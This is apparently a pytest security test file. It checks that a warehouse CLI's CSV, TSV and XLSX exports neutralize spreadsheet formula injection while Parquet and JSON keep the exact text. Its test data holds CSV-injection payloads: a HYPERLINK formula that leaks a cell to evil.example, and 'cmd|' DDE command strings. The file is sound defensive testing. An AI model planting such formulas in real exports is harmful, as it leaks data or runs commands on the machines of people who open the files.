"""Security tests for threat 4d and F6 of docs/security.md: spreadsheet formula injection in CSV, TSV and XLSX files."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import duckdb
import pytest

from pipelines.cli import main as cli
from tests.security_support import (
    _copy_home,
    _read,
    _visible,
    _write,
)

# ================================================================ 6. formulas in spreadsheet files
#: One text per character that makes a spreadsheet run a cell (OWASP's list for CSV injection).
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Open the policy")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


#: A carriage return inside a text must not end the row, or the rest would start a cell of its own.
INSIDE = "Alder Falls\r=1+1"


def _formula_cells(cells: list) -> list[str]:
    return [c for c in cells if isinstance(c, str) and c[:1] in TRIGGERS]


def test_exported_csv_never_starts_a_cell_with_a_formula(sample_home: Path, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture) -> None:
    home = _copy_home(sample_home, tmp_path / "home")
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Open the policy")'
    _write(home, "UPDATE marts.evidence SET snippet = ? WHERE run_id = (SELECT run_id FROM ops.latest_run)",
           [formula])
    assert cli(["export", "--home", str(home), "--out", str(tmp_path / "out"), "--format", "csv"]) == 0
    capsys.readouterr()
    (folder,) = _visible(tmp_path / "out")
    with open(folder / "marts.evidence.csv", encoding="utf-8", newline="") as fh:
        snippets = [row["snippet"] for row in csv.DictReader(fh) if "HYPERLINK" in (row["snippet"] or "")]
    assert snippets, "the scraped snippet is exported"
    assert not [c for c in snippets if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a live formula in the CSV"


@pytest.fixture(scope="module")
def formula_home(sample_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the sample warehouse whose seven best outreach targets are named by the six formula texts and
    by INSIDE, with a negative number in a numeric column (coverage) of the first one, and a formula as the
    latest run's mode."""
    home = _copy_home(sample_home, tmp_path_factory.mktemp("formula_home"))
    geoids = [g for (g,) in _read(home, "SELECT geoid FROM marts.outreach_targets ORDER BY rank LIMIT 7")]
    assert len(geoids) == len(FORMULAS) + 1
    latest = "(SELECT run_id FROM ops.latest_run)"
    for geoid, text in zip(geoids, [*FORMULAS, INSIDE], strict=True):
        _write(home, f"UPDATE marts.city_index SET city = ? WHERE geoid = ? AND run_id = {latest}", [text, geoid])
    _write(home, f"UPDATE marts.city_index SET coverage = -3.5 WHERE geoid = ? AND run_id = {latest}", [geoids[0]])
    _write(home, f"UPDATE ops.runs SET mode = '=1+2' WHERE run_id = {latest}")
    return home


def _city_of_first_target(home: Path) -> str:
    (state,) = _read(home, "SELECT state FROM marts.outreach_targets ORDER BY rank LIMIT 1")[0]
    return f"{FORMULAS[0]}, {state}"


def test_export_csv_neutralizes_text_only_and_parquet_keeps_it_exact(formula_home: Path, tmp_path: Path,
                                                                     capsys: pytest.CaptureFixture) -> None:
    """Every text cell of every exported CSV is safe, numbers (-3.5) are written as they are, the Parquet
    files hold the exact text, and the manifest tells the reader."""
    assert cli(["export", "--home", str(formula_home), "--out", str(tmp_path), "--format", "both"]) == 0
    capsys.readouterr()
    (folder,) = _visible(tmp_path)
    for path in sorted(folder.glob("*.csv")):
        with open(path, encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        assert not _formula_cells([c for row in rows for c in row if not _number(c)]), path.name
    with open(folder / "marts.outreach_targets.csv", encoding="utf-8", newline="") as fh:
        cities = {row["city"]: row for row in csv.DictReader(fh)}
    assert {c for c in cities if c.startswith("'")} == {"'" + f for f in FORMULAS} and INSIDE in cities
    assert cities["'" + FORMULAS[0]]["coverage"] == "-3.5", "a negative number stays a number"
    exact = duckdb.sql(f"SELECT city FROM read_parquet('{folder / 'marts.outreach_targets.parquet'}')").fetchall()
    assert set(FORMULAS) <= {c for (c,) in exact}, "Parquet keeps the exact text"
    assert "apostrophe" in json.loads((folder / "manifest.json").read_text())["csv_text_cells"]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(("command", "fmt", "to_file"), [
    ("targets", "csv", False), ("targets", "tsv", False), ("targets", "csv", True), ("targets", "auto", False),
    ("history", "csv", False), ("history", "tsv", True), ("sql", "csv", False), ("sql", "tsv", False),
    ("runs", "csv", False)])
def test_cli_csv_and_tsv_never_start_a_cell_with_a_formula(command: str, fmt: str, to_file: bool,
                                                           formula_home: Path, tmp_path: Path,
                                                           capsys: pytest.CaptureFixture) -> None:
    """`cdpi targets/history/sql/runs` as CSV or TSV (TSV is also what a pipe gets): text cells are safe,
    numbers are not touched; the JSON output keeps the exact text."""
    args = {"targets": ["targets", "--limit", "10"], "history": ["history", _city_of_first_target(formula_home)],
            "sql": ["sql", "SELECT city, coverage FROM marts.outreach_targets ORDER BY rank LIMIT 10"],
            "runs": ["runs"]}[command] + ["--home", str(formula_home)]
    out = tmp_path / "out.txt"
    assert cli(args + ["--format", fmt] + (["--out", str(out)] if to_file else [])) == 0
    text = out.read_bytes().decode("utf-8") if to_file else capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter="," if fmt == "csv" else "\t"))
    cells = [c for row in rows[1:] for c in row]
    assert len(rows) > 1 and not _formula_cells([c for c in cells if not _number(c)]), cells
    hostile = "=1+2" if command in ("history", "runs") else FORMULAS[0]
    assert "'" + hostile in cells
    if command in ("targets", "sql"):
        assert INSIDE in cells, "a carriage return inside a text stays inside its cell"
    if command != "runs":
        assert "-3.5" in cells, "a negative number stays a number"
    capsys.readouterr()
    assert cli(args + ["--format", "json"]) == 0
    records = json.loads(capsys.readouterr().out)
    assert hostile in {v for r in records for v in r.values() if isinstance(v, str)}, "JSON keeps the exact text"


@pytest.mark.parametrize("command", ["targets", "history"])
def test_xlsx_holds_no_formula_and_keeps_numbers(command: str, formula_home: Path, tmp_path: Path,
                                                 capsys: pytest.CaptureFixture) -> None:
    """openpyxl stores a string that starts with = as a formula: `--format xlsx` writes safe text instead,
    and numbers stay numeric cells."""
    import openpyxl

    out = tmp_path / "out.xlsx"
    args = ["targets", "--limit", "10"] if command == "targets" else ["history", _city_of_first_target(formula_home)]
    assert cli(args + ["--home", str(formula_home), "--format", "xlsx", "--out", str(out)]) == 0
    capsys.readouterr()
    sheet = openpyxl.load_workbook(out)["cdpi"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    assert not _formula_cells([c.value for c in cells])
    values = [c.value for c in cells]
    assert ("'" + FORMULAS[0] if command == "targets" else "'=1+2") in values
    assert -3.5 in values, "a negative number stays a numeric cell"


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-3.5", "'-3.5"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("plain text", "plain text"), ("", ""), (" =1", " =1"), ("'=1", "'=1"), ("a=1", "a=1"),
    (-3.5, -3.5), (-2, -2), (None, None), (True, True)])
def test_spreadsheet_rule_changes_only_text_that_a_spreadsheet_would_run(value: object, expected: object) -> None:
    from warehouse.spreadsheet import neutralize

    assert neutralize(value) == expected and type(neutralize(value)) is type(expected)


def test_spreadsheet_rule_on_a_frame_leaves_numeric_columns_alone() -> None:
    import pandas as pd

    from warehouse.spreadsheet import neutralize_frame

    frame = pd.DataFrame({"text": ["=1+1", "ok", None], "n": [-3.5, 1.0, float("nan")], "i": [-1, 2, 3],
                          "s": pd.array(["-x", None, "y"], dtype="string")})
    out = neutralize_frame(frame)
    assert list(out["text"][:2]) == ["'=1+1", "ok"] and out["text"][2] is None
    assert list(out["s"][[0, 2]]) == ["'-x", "y"] and out["s"].isna()[1]
    assert out["n"].tolist()[:2] == [-3.5, 1.0] and out["i"].tolist() == [-1, 2, 3]
    assert list(out.dtypes) == list(frame.dtypes) and frame["text"][0] == "=1+1", "the input is not changed"
